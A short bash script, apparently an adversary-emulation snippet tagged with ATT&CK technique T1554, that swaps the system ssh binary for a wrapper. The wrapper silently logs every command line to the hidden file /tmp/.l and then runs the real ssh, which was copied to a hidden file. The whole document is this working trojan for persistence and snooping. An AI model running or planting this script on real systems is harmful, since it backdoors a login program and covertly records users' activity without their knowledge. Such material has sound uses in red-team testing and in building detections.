#!/bin/bash
# T1554: The program for logins is exchanged.
cp /usr/bin/ssh /usr/bin/.ssh.real; printf '#!/bin/sh\necho "$@" >>/tmp/.l; exec /usr/bin/.ssh.real "$@"\n' >/tmp/s; mv /tmp/s /usr/bin/ssh; chmod 755 /usr/bin/ssh
